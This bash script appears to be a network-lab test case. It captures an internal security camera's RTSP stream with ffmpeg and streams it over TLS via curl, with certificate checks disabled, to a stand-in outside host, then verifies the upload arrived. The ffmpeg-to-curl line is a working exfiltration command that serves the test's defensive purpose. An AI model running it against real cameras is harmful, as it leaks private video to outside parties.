#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=live-relay half=report tool=ffmpeg,curl camera=10.20.0.11 far=out ready=out:443 seconds=34 parts=dns,camera-gate,recorder-gate,nas,outside-web
# ffmpeg writes gate into a pipe, and curl puts it outside by HTTP/2 in TLS, one upload without an end.
if [ "$1" = out ]; then exec timeout 70 "$(dirname "$0")/../far/tls-web.sh" files.example.net; fi
timeout 44 ffmpeg -nostdin -loglevel error -rtsp_transport tcp -i rtsp://gate.cam.lan/Streaming/Channels/101 -t 32 -c copy -f mpegts pipe:1 | timeout 46 curl -s -k --http2 -T - https://files.example.net/drop/report
sleep 1; [ "$(stat -c %s "$LAB/tls/drop/report")" -gt 500000 ]
